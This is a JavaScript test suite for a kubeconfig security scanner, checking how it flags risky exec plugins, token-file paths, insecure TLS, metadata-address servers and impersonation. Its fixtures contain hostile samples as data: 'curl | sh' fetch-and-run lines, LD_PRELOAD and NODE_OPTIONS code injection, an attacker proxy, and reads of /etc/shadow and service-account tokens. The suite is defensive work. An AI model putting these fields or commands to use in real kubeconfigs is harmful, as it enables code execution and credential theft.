import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parseKubeconfig, locate } from './parse.js';
import { judgeKubeconfig, judgeKubeconfigSet, credentialsOf, classifyHost, KCF } from './judge.js';
import { KCF_META } from './rules.js';
/** An unsigned JWT with the given claims (the signature part is a fixed canary). */
function makeJwt(claims, header = { alg: 'RS256', kid: 'k1' }) {
    const seg = (o) => Buffer.from(JSON.stringify(o)).toString('base64url');
    return `${seg(header)}.${seg(claims)}.CANARYSIGNATURExyz`;
}
function judge(text, origin = { kind: 'file', folder: '/home/me/repo' }) {
    const p = parseKubeconfig(text, { file: 'k.yaml' });
    assert.deepEqual(p.errors, [], 'fixture must parse');
    return judgeKubeconfig(p, { origin, now: Date.UTC(2026, 5, 1) });
}
/** The single finding at `path`; fails when there is none or several. */
function at(findings, path) {
    const hits = findings.filter((f) => f.path === path);
    assert.equal(hits.length, 1, `expected one finding at ${path}, got: ${findings.map((f) => `${f.id} ${f.path}`).join('; ')}`);
    return hits[0];
}
function none(findings, path) {
    assert.deepEqual(findings.filter((f) => f.path === path).map((f) => f.message), [], `expected no finding at ${path}`);
}
/** A kubeconfig with one context pairing `user` with `cluster`. */
function kc(user, cluster = 'server: https://east.example.com:6443') {
    return `apiVersion: v1
kind: Config
current-context: c
clusters:
- name: east
  cluster:
    ${cluster.split('\n').join('\n    ')}
contexts:
- name: c
  context: {cluster: east, user: u}
users:
- name: u
  user:
    ${user.split('\n').join('\n    ')}
`;
}
test('an istioctl-style remote-secret kubeconfig is clean', () => {
    const f = judge(kc(`token: ${makeJwt({ iss: 'https://kubernetes.default.svc', sub: 'system:serviceaccount:istio-system:istio-reader-service-account', exp: Date.UTC(2027, 0, 1) / 1000 })}`, 'server: https://east.example.com:6443\ncertificate-authority-data: Q0E='), { kind: 'secret' });
    assert.deepEqual(f, []);
});
// ------------------------------------------------------------------------------------------------
// exec
test('exec.command: absolute, relative (against the kubeconfig folder) and PATH lookups', () => {
    const abs = at(judge(kc('exec: {apiVersion: client.authentication.k8s.io/v1, command: /opt/bin/login, interactiveMode: Never}')), 'users[0].user.exec.command');
    assert.equal(abs.id, 'KCF001');
    assert.equal(abs.severity, 'critical');
    assert.equal(abs.istiodRejects, true);
    assert.deepEqual(abs.subject, { kind: 'user', name: 'u' });
    assert.match(abs.message, /^user "u": exec\.command runs "\/opt\/bin\/login"/);
    assert.match(abs.message, /attacker/);
    const rel = at(judge(kc('exec: {command: ./bin/login, interactiveMode: Never}')), 'users[0].user.exec.command');
    assert.match(rel.message, /relative path that client-go resolves against the kubeconfig’s folder \("\/home\/me\/repo"\)/);
    const relSecret = at(judge(kc('exec: {command: bin/login, interactiveMode: Never}'), { kind: 'secret' }), 'users[0].user.exec.command');
    assert.match(relSecret.message, /working directory/);
    const bare = at(judge(kc('exec: {command: my-login, interactiveMode: Never}')), 'users[0].user.exec.command');
    assert.match(bare.message, /looked up on the consumer’s PATH/);
    assert.equal(bare.severity, 'critical');
});
test('exec.command: a well-known cloud plugin is medium in a file, critical in a Secret; interpreters are called out', () => {
    const known = at(judge(kc('exec: {command: aws, args: [eks, get-token], interactiveMode: Never}')), 'users[0].user.exec.command');
    assert.equal(known.severity, 'medium');
    assert.match(known.message, /common cloud login plugin/);
    assert.equal(at(judge(kc('exec: {command: aws, interactiveMode: Never}'), { kind: 'secret' }), 'users[0].user.exec.command').severity, 'critical');
    // A path to a binary named like a known plugin is not the known plugin.
    assert.equal(at(judge(kc('exec: {command: ./aws, interactiveMode: Never}')), 'users[0].user.exec.command').severity, 'critical');
    const sh = judge(kc('exec: {command: /bin/sh, args: ["-c", "curl x | sh"], interactiveMode: Never}'));
    assert.match(at(sh, 'users[0].user.exec.command').message, /general-purpose interpreter/);
    const inline = at(sh, 'users[0].user.exec.args[0]');
    assert.equal(inline.severity, 'critical');
    assert.match(inline.message, /hands inline code to "sh"/);
    const meta = at(sh, 'users[0].user.exec.args[1]');
    assert.equal(meta.severity, 'medium');
    assert.match(meta.message, /shell metacharacters/);
});
test('exec.env: code-loading, PATH, proxy and CA variables are findings; their values are fingerprinted', () => {
    const f = judge(kc(`exec:
  command: aws
  interactiveMode: Never
  env:
  - {name: LD_PRELOAD, value: /tmp/CANARY-evil.so}
  - {name: LD_LIBRARY_PATH, value: /tmp/lib}
  - {name: PATH, value: /tmp/bin}
  - {name: HTTPS_PROXY, value: http://attacker:8080}
  - {name: NODE_OPTIONS, value: --require /tmp/x.js}
  - {name: SSL_CERT_FILE, value: /tmp/ca.pem}
  - {name: AWS_PROFILE, value: prod}
  - {name: HARMLESS_FLAG, value: "1"}`));
    const ld = at(f, 'users[0].user.exec.env[0]');
    assert.equal(ld.severity, 'critical');
    assert.match(ld.message, /sets "LD_PRELOAD" \(value sha256:[0-9a-f]{12}\)/);
    assert.match(ld.message, /shared library of the attacker’s choice/);
    assert.equal(ld.message.includes('CANARY'), false);
    assert.equal(at(f, 'users[0].user.exec.env[1]').severity, 'critical');
    assert.equal(at(f, 'users[0].user.exec.env[2]').severity, 'high');
    assert.match(at(f, 'users[0].user.exec.env[3]').message, /proxy/);
    assert.equal(at(f, 'users[0].user.exec.env[4]').severity, 'critical');
    assert.match(at(f, 'users[0].user.exec.env[5]').message, /trust certificates/);
    assert.equal(at(f, 'users[0].user.exec.env[6]').severity, 'medium');
    none(f, 'users[0].user.exec.env[7]');
    assert.ok(f.filter((x) => x.path.includes('exec')).every((x) => x.istiodRejects));
});
test('exec.installHint, provideClusterInfo and interactiveMode', () => {
    const plain = at(judge(kc('exec: {command: aws, installHint: "Install the AWS CLI.", interactiveMode: Never}')), 'users[0].user.exec.installHint');
    assert.equal(plain.severity, 'low');
    assert.match(plain.message, /talk the user into installing or running something/);
    const lure = at(judge(kc('exec: {command: aws, installHint: "run: curl -sL https://get.example | sh", interactiveMode: Never}')), 'users[0].user.exec.installHint');
    assert.equal(lure.severity, 'medium');
    assert.match(lure.message, /fetch, run or trust/);
    const esc = at(judge(kc('exec: {command: aws, installHint: "ok\\e[2K\\rhidden", interactiveMode: Never}')), 'users[0].user.exec.installHint');
    assert.equal(esc.severity, 'medium');
    assert.match(esc.message, /terminal control or invisible characters/);
    const pci = at(judge(kc('exec: {command: aws, provideClusterInfo: true, interactiveMode: Never}')), 'users[0].user.exec.provideClusterInfo');
    assert.equal(pci.severity, 'low');
    assert.match(pci.message, /KUBERNETES_EXEC_INFO/);
    none(judge(kc('exec: {command: aws, provideClusterInfo: false, interactiveMode: Never}')), 'users[0].user.exec.provideClusterInfo');
    assert.equal(at(judge(kc('exec: {command: aws, interactiveMode: Always}')), 'users[0].user.exec.interactiveMode').severity, 'medium');
    assert.equal(at(judge(kc('exec: {command: aws, interactiveMode: IfAvailable}')), 'users[0].user.exec.interactiveMode').severity, 'low');
    none(judge(kc('exec: {command: aws, interactiveMode: Never}')), 'users[0].user.exec.interactiveMode');
    assert.match(at(judge(kc('exec: {command: aws}')), 'users[0].user.exec.command').message, /interactiveMode is unset/);
});
test('exec spelt with other capitals is still found, and marked as not what istiod rejects', () => {
    const f = at(judge(kc('Exec: {command: /bin/x, interactiveMode: Never}')), 'users[0].user.Exec.command');
    assert.equal(f.severity, 'critical');
    assert.equal(f.istiodRejects, false);
    assert.match(f.message, /spelt "Exec"/);
});
// ------------------------------------------------------------------------------------------------
// auth-provider
test('auth-provider gcp: cmd-path runs a shell command line; without it the host’s Google credentials are sent', () => {
    const cmd = at(judge(kc('auth-provider: {name: gcp, config: {cmd-path: /usr/bin/gcloud, cmd-args: "config config-helper --format=json"}}')), 'users[0].user.auth-provider.config.cmd-path');
    assert.equal(cmd.id, 'KCF002');
    assert.equal(cmd.severity, 'critical');
    assert.equal(cmd.istiodRejects, true);
    assert.match(cmd.message, /execSync/);
    const adc = at(judge(kc('auth-provider: {name: gcp}')), 'users[0].user.auth-provider.name');
    assert.equal(adc.severity, 'high');
    assert.equal(adc.istiodRejects, true);
    assert.match(adc.message, /Application Default Credentials/);
    assert.match(adc.message, /"https:\/\/east\.example\.com:6443"/);
});
test('auth-provider azure, other providers, and oidc', () => {
    const az = at(judge(kc('auth-provider: {name: azure, config: {tenant-id: t, client-id: c, access-token: CANARY-AT, refresh-token: CANARY-RT}}')), 'users[0].user.auth-provider.name');
    assert.equal(az.severity, 'high');
    assert.equal(az.istiodRejects, true);
    assert.equal(az.message.includes('CANARY'), false);
    assert.equal(at(judge(kc('auth-provider: {name: azure, config: {cmd-path: /bin/az}}')), 'users[0].user.auth-provider.config.cmd-path').severity, 'critical');
    const os = at(judge(kc('auth-provider: {name: openstack}')), 'users[0].user.auth-provider.name');
    assert.equal(os.severity, 'high');
    assert.equal(os.istiodRejects, true);
    const ok = judge(kc('auth-provider: {name: oidc, config: {idp-issuer-url: "https://accounts.example.com", client-id: k, client-secret: CANARY-CS, id-token: CANARY-ID, refresh-token: CANARY-RT}}'));
    assert.deepEqual(ok, []);
    const http = at(judge(kc('auth-provider: {name: oidc, config: {idp-issuer-url: "http://idp.example.com"}}')), 'users[0].user.auth-provider.config.idp-issuer-url');
    assert.equal(http.severity, 'high');
    assert.equal(http.istiodRejects, false);
    assert.match(http.message, /cleartext/);
    const ssrf = at(judge(kc('auth-provider: {name: oidc, config: {idp-issuer-url: "https://169.254.169.254/latest"}}')), 'users[0].user.auth-provider.config.idp-issuer-url');
    assert.match(ssrf.message, /metadata service.*SSRF/);
    const ca = at(judge(kc('auth-provider: {name: oidc, config: {idp-issuer-url: "https://idp", idp-certificate-authority: idp-ca.pem}}')), 'users[0].user.auth-provider.config.idp-certificate-authority');
    assert.equal(ca.id, 'KCF004');
    assert.equal(ca.severity, 'low');
    assert.match(ca.message, /relative path/);
    // OIDC is what istiod allows: a cmd-path under oidc is still reported but not as rejected.
    assert.equal(at(judge(kc('auth-provider: {name: oidc, config: {cmd-path: /bin/x}}')), 'users[0].user.auth-provider.config.cmd-path').istiodRejects, false);
});
// ------------------------------------------------------------------------------------------------
// token files and credential paths
test('token files: tokenFile and token-file, both spellings, and the provider tokenFile', () => {
    const go = at(judge(kc('tokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token')), 'users[0].user.tokenFile');
    assert.equal(go.id, 'KCF003');
    assert.equal(go.severity, 'critical');
    assert.equal(go.istiodRejects, true);
    assert.match(go.message, /tokenFile "\/var\/run\/secrets\/kubernetes\.io\/serviceaccount\/token"/);
    assert.match(go.message, /to "https:\/\/east\.example\.com:6443"/);
    assert.match(go.message, /attacker who controls the server receives the file/);
    const node = at(judge(kc('token-file: tokens/t.txt')), 'users[0].user.token-file');
    assert.equal(node.id, 'KCF003');
    assert.equal(node.severity, 'high');
    assert.equal(node.istiodRejects, false);
    assert.match(node.message, /@kubernetes\/client-node reads it while \*loading\*/);
    assert.match(node.message, /client-go ignores this spelling, so istiod does not reject it/);
    assert.match(node.message, /kubeconfig’s folder \("\/home\/me\/repo"\)/);
    const both = judge(kc('tokenFile: /a\ntoken-file: /b'));
    assert.equal(both.filter((f) => f.id === 'KCF003').length, 2);
    const provider = at(judge(kc('auth-provider: {name: file, config: {tokenFile: /etc/kubernetes/admin.conf}}')), 'users[0].user.auth-provider.config.tokenFile');
    assert.equal(provider.id, 'KCF003');
    assert.equal(provider.severity, 'critical');
    const caps = at(judge(kc('TokenFile: /x')), 'users[0].user.TokenFile');
    assert.equal(caps.istiodRejects, false);
    assert.match(caps.message, /spelt "TokenFile"/);
});
test('client-certificate, client-key and certificate-authority paths', () => {
    const f = judge(kc('client-certificate: /etc/certs/cert-chain.pem\nclient-key: key.pem', 'server: https://east.example.com:6443\ncertificate-authority: ca.pem'));
    const cert = at(f, 'users[0].user.client-certificate');
    assert.equal(cert.id, 'KCF004');
    assert.equal(cert.severity, 'critical');
    assert.equal(cert.istiodRejects, true);
    assert.match(cert.message, /borrows the consumer’s identity/);
    const key = at(f, 'users[0].user.client-key');
    assert.equal(key.severity, 'high');
    assert.equal(key.istiodRejects, true);
    assert.match(key.message, /relative path/);
    const ca = at(f, 'clusters[0].cluster.certificate-authority');
    assert.equal(ca.severity, 'low');
    assert.equal(ca.istiodRejects, false);
    assert.deepEqual(ca.subject, { kind: 'cluster', name: 'east' });
    // Inline data is not a path.
    assert.deepEqual(judge(kc('client-certificate-data: Q0VSVA==\nclient-key-data: S0VZ', 'server: https://e\ncertificate-authority-data: Q0E=')), []);
});
// ------------------------------------------------------------------------------------------------
// transport
test('insecure-skip-tls-verify, as a boolean or the string "true"', () => {
    for (const v of ['true', '"true"']) {
        const f = at(judge(kc('token: t', `server: https://e\ninsecure-skip-tls-verify: ${v}`)), 'clusters[0].cluster.insecure-skip-tls-verify');
        assert.equal(f.id, 'KCF005');
        assert.equal(f.severity, 'high');
        assert.equal(f.istiodRejects, false);
        assert.match(f.message, /pose as the API server/);
        assert.match(f.message, /user "u" \(bearer token\)/);
    }
    none(judge(kc('token: t', 'server: https://e\ninsecure-skip-tls-verify: false')), 'clusters[0].cluster.insecure-skip-tls-verify');
});
test('http:// servers: high with credentials, medium when the paired user carries none', () => {
    const withCreds = at(judge(kc('username: admin\npassword: CANARY-PW', 'server: http://10.0.0.1:8080')), 'clusters[0].cluster.server');
    assert.equal(withCreds.id, 'KCF006');
    assert.equal(withCreds.severity, 'high');
    assert.match(withCreds.message, /cleartext/);
    assert.match(withCreds.message, /password/);
    assert.equal(withCreds.message.includes('CANARY'), false);
    assert.deepEqual(withCreds.evidence, [{ role: 'context', description: 'context "c" uses it' }]);
    const anon = at(judge(kc('{}', 'server: http://10.0.0.1:8080')), 'clusters[0].cluster.server');
    assert.equal(anon.severity, 'medium');
});
test('proxy-url: medium, high when TLS is off; proxy passwords never shown', () => {
    const p = at(judge(kc('token: t', 'server: https://e\nproxy-url: "http://bob:CANARY-PROXY@proxy.example:3128"')), 'clusters[0].cluster.proxy-url');
    assert.equal(p.id, 'KCF007');
    assert.equal(p.severity, 'medium');
    assert.equal(p.message.includes('CANARY'), false);
    assert.match(p.message, /proxy credentials \(fingerprinted here\)/);
    assert.equal(at(judge(kc('token: t', 'server: https://e\ninsecure-skip-tls-verify: true\nproxy-url: socks5://p:1080')), 'clusters[0].cluster.proxy-url').severity, 'high');
    assert.equal(at(judge(kc('token: t', 'server: http://e\nproxy-url: socks5://p:1080')), 'clusters[0].cluster.proxy-url').severity, 'high');
});
test('tls-server-name: medium with a CA from the kubeconfig, low with system roots, nothing when it is the host', () => {
    const custom = at(judge(kc('token: t', 'server: https://10.1.2.3:6443\ntls-server-name: api.other.example\ncertificate-authority-data: Q0E=')), 'clusters[0].cluster.tls-server-name');
    assert.equal(custom.id, 'KCF008');
    assert.equal(custom.severity, 'medium');
    assert.match(custom.message, /picks both the trusted CA and the accepted name/);
    assert.equal(at(judge(kc('token: t', 'server: https://10.1.2.3:6443\ntls-server-name: api.other.example')), 'clusters[0].cluster.tls-server-name').severity, 'low');
    none(judge(kc('token: t', 'server: https://api.example:6443\ntls-server-name: api.example')), 'clusters[0].cluster.tls-server-name');
});
test('servers at metadata and link-local addresses, in every spelling; loopback only matters in Secrets', () => {
    for (const server of ['https://169.254.169.254', 'http://2852039166/', 'https://0xA9FEA9FE', 'https://metadata.google.internal', 'https://[::ffff:169.254.169.254]', 'https://169.254.10.1:6443', 'https://[fe80::1]:6443', 'https://[fd00:ec2::254]']) {
        const f = at(judge(kc('token: t', `server: "${server}"`)).filter((x) => x.id === 'KCF009'), 'clusters[0].cluster.server');
        assert.equal(f.severity, 'high', server);
        assert.match(f.message, /SSRF/);
    }
    assert.deepEqual(judge(kc('token: t', 'server: https://127.0.0.1:6443')), []);
    const loop = at(judge(kc('token: t', 'server: https://localhost:6443'), { kind: 'secret' }), 'clusters[0].cluster.server');
    assert.equal(loop.severity, 'medium');
    assert.equal(classifyHost('10.0.0.1'), null);
    assert.equal(classifyHost('api.example.com'), null);
    assert.equal(classifyHost('0.0.0.0'), 'unspecified');
});
// ------------------------------------------------------------------------------------------------
// impersonation and tokens
test('impersonation: as, as-uid, as-groups, as-user-extra; system:masters is critical', () => {
    const f = judge(kc('token: t\nas: jane\nas-uid: "1234"\nas-groups: [system:masters, devs]\nas-user-extra: {scopes: [view]}'));
    const as = at(f, 'users[0].user.as');
    assert.equal(as.id, 'KCF010');
    assert.equal(as.severity, 'medium');
    assert.match(as.message, /Impersonate-User/);
    const groups = at(f, 'users[0].user.as-groups');
    assert.equal(groups.severity, 'critical');
    assert.match(groups.message, /system:masters bypasses RBAC/);
    const uid = at(f, 'users[0].user.as-uid');
    assert.match(uid.message, /istiod silently drops this field/);
    const extra = at(f, 'users[0].user.as-user-extra');
    assert.match(extra.message, /Impersonate-Extra-"scopes"/);
    assert.ok(f.filter((x) => x.id === 'KCF010').every((x) => !x.istiodRejects));
    assert.equal(at(judge(kc('token: t\nas: system:admin')), 'users[0].user.as').severity, 'critical');
    assert.equal(at(judge(kc('token: t\nas: system:serviceaccount:kube-system:replicaset-controller')), 'users[0].user.as').severity, 'high');
    assert.match(at(judge(kc('token: t\nas-groups: [devs]')), 'users[0].user.as-groups').message, /Without as, client-go refuses/);
});
test('a JWT bearer token without exp is a finding; with exp it is not; a plain token is not decoded', () => {
    const legacy = makeJwt({ iss: 'kubernetes/serviceaccount', sub: 'system:serviceaccount:istio-system:istio-reader-service-account' });
    const f = at(judge(kc(`token: ${legacy}`)), 'users[0].user.token');
    assert.equal(f.id, 'KCF011');
    assert.equal(f.severity, 'medium');
    assert.match(f.message, /legacy service-account token with no expiry/);
    assert.match(f.message, /service account istio-system\/istio-reader-service-account/);
    assert.equal(f.message.includes(legacy), false);
    assert.equal(JSON.stringify(f).includes('CANARYSIGNATURE'), false);
    assert.deepEqual(judge(kc(`token: ${makeJwt({ iss: 'x', sub: 'y', exp: Date.UTC(2030, 0, 1) / 1000 })}`)), []);
    assert.deepEqual(judge(kc('token: CANARY-TOKEN-opaque')), []);
    const creds = credentialsOf(parseKubeconfig(kc(`token: ${legacy}`), { file: 'k' }));
    assert.equal(creds.length, 1);
    assert.deepEqual(creds[0].kinds, ['bearer token']);
    assert.equal(creds[0].jwt?.serviceAccount, 'istio-reader-service-account');
    assert.deepEqual(creds[0].servers, ['https://east.example.com:6443']);
    assert.equal(JSON.stringify(creds).includes(legacy), false);
});
// ------------------------------------------------------------------------------------------------
// every entry, names, merging
test('every cluster, user and context is judged, not only the current one', () => {
    const text = `apiVersion: v1
kind: Config
current-context: safe
clusters:
- name: safe
  cluster: {server: "https://safe.example:6443", certificate-authority-data: Q0E=}
- name: unused-http
  cluster: {server: "http://plain.example"}
contexts:
- name: safe
  context: {cluster: safe, user: safe}
- name: other
  context: {cluster: safe, user: ghost-user}
users:
- name: safe
  user: {token: t}
- name: unused-exec
  user:
    exec: {command: /tmp/x, interactiveMode: Never}
- name: unused-tokenfile
  user: {token-file: /etc/passwd}
`;
    const f = judge(text);
    assert.deepEqual(f.map((x) => `${x.id} ${x.subject.kind}:${x.subject.name} ${x.path}`).sort(), [
        'KCF001 user:unused-exec users[1].user.exec.command',
        'KCF003 user:unused-tokenfile users[2].user.token-file',
        'KCF006 cluster:unused-http clusters[1].cluster.server',
        'KCF012 context:other contexts[1].context.user',
    ]);
});
test('duplicate names, dangling references and a missing current-context', () => {
    const text = `current-context: nowhere
clusters:
- name: a
  cluster: {server: "https://a"}
contexts:
- name: c
  context: {cluster: missing, user: u}
users:
- name: u
  user: {token: harmless}
- name: u
  user: {tokenFile: /etc/shadow}
`;
    const f = judge(text);
    const dup = at(f, 'users[1].name');
    assert.equal(dup.id, 'KCF012');
    assert.match(dup.message, /defined twice \(first at users\[0\]\)/);
    // The shadowed copy is still judged.
    assert.equal(at(f, 'users[1].user.tokenFile').severity, 'critical');
    assert.match(at(f, 'contexts[0].context.cluster').message, /names cluster "missing", which this kubeconfig does not define/);
    const cc = at(f, 'current-context');
    assert.deepEqual(cc.subject, { kind: 'context', name: 'nowhere' });
});
test('merged KUBECONFIG files: references another file satisfies are fine; shadowed definitions are reported', () => {
    const first = parseKubeconfig('current-context: dev\nusers:\n- name: admin\n  user:\n    exec: {command: /tmp/evil, interactiveMode: Never}\n', { file: 'first.yaml' });
    const second = parseKubeconfig('current-context: prod\nclusters:\n- name: prod\n  cluster: {server: "https://prod"}\ncontexts:\n- name: prod\n  context: {cluster: prod, user: admin}\n- name: dev\n  context: {cluster: prod, user: admin}\nusers:\n- name: admin\n  user: {token: t}\n', { file: 'second.yaml' });
    const [f1, f2] = judgeKubeconfigSet([first, second], { origins: [{ kind: 'file' }, { kind: 'file' }] });
    assert.deepEqual(f1.map((x) => x.id), ['KCF001']);
    // first.yaml's current-context "dev" is defined in second.yaml: not dangling.
    assert.equal(f1.some((x) => x.path === 'current-context'), false);
    const shadow = at(f2, 'users[0].name');
    assert.equal(shadow.id, 'KCF012');
    assert.match(shadow.message, /"first\.yaml" defines user "admin" first/);
    assert.equal(at(f2, 'current-context').severity, 'info');
    assert.equal(f2.some((x) => x.path === 'contexts[0].context.user'), false);
});
// ------------------------------------------------------------------------------------------------
// cross-checks
test('istiodRejects marks exactly what istiod refuses: exec, tokenFile, cert and key paths, auth-providers but oidc', () => {
    const text = kc(`exec: {command: /x, interactiveMode: Never}
tokenFile: /t
token-file: /t2
client-certificate: /c
client-key: /k
auth-provider: {name: gcp}
as: jane`, 'server: http://e\ninsecure-skip-tls-verify: true\nproxy-url: http://p\ncertificate-authority: /ca');
    const f = judge(text);
    const rejected = f.filter((x) => x.istiodRejects).map((x) => x.path).sort();
    assert.deepEqual(rejected, [
        'users[0].user.auth-provider.name',
        'users[0].user.client-certificate',
        'users[0].user.client-key',
        'users[0].user.exec.command',
        'users[0].user.tokenFile',
    ]);
});
test('every finding has rule metadata, names its field, says what an attacker gains, and locates to a line', () => {
    const text = kc(`exec: {command: /x, args: ["a;b"], env: [{name: PATH, value: /p}], installHint: hi, provideClusterInfo: true, interactiveMode: Always}
tokenFile: /t
token-file: /t2
client-certificate: /c
client-key: /k
auth-provider: {name: gcp, config: {cmd-path: /g, tokenFile: /f}}
as: jane
as-groups: [g]
as-uid: "1"
as-user-extra: {k: [v]}
token: ${makeJwt({ iss: 'kubernetes/serviceaccount', sub: 'system:serviceaccount:a:b' })}`, 'server: https://169.254.169.254\ninsecure-skip-tls-verify: true\nproxy-url: http://p\ncertificate-authority: /ca\ntls-server-name: other').replace('contexts:\n', '- name: plain\n  cluster: {server: "http://plain.example"}\ncontexts:\n');
    const p = parseKubeconfig(text, { file: 'k.yaml' });
    const f = judgeKubeconfig(p, { origin: { kind: 'file' } });
    const ids = new Set(f.map((x) => x.id));
    for (const id of Object.values(KCF))
        if (id !== KCF.ambiguousNames)
            assert.ok(ids.has(id), `${id} fired`);
    for (const x of f) {
        assert.ok(KCF_META[x.id], x.id);
        const leaf = x.segments[x.segments.length - 1];
        const fieldName = typeof leaf === 'number' ? String(x.segments[x.segments.length - 2]) : String(leaf);
        assert.ok(x.message.includes(fieldName), `${x.path}: message names ${fieldName}: ${x.message}`);
        assert.match(x.message, /attacker|whoever|anyone/i, x.path);
        assert.ok((locate(p, x.segments)?.line ?? 0) > 1, x.path);
        assert.equal(x.file, 'k.yaml');
    }
    // Keys are stable and distinct.
    assert.equal(new Set(f.map((x) => `${x.id}|${x.key}`)).size, f.length);
});
